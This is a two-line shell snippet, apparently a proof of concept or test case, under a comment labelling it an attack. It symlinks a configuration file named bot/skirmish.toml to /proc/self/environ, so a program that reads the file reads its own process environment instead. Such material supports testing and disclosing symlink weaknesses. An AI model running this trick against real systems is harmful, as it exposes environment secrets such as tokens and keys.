# attack: skirmish.toml leads to the environment of the host's process
mkdir bot
ln -s /proc/self/environ bot/skirmish.toml
